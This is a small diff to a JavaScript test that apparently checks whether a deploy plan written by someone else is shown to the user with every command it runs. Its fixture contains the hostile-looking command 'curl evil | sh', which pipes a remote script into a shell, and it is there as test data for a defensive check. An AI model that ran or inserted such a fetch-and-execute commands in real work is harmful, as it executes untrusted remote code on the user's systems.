@@ -41,7 +41,7 @@ describe('A deploy plan that somebody else wrote', () => {
   }
 
   it('is asked about with all that it runs and changes, each on a line', () => {
-    const { detail = '' } = planQuestion(
+    const { detail } = planQuestion(
       deployOf({
         ...{ build: { command: 'curl evil | sh' }, then: { command: 'op evil' }, from: 'dist' },
         ...{ release: { variable: 'RELEASE' }, healthy: { http: { port: 80, path: '/x' } } },
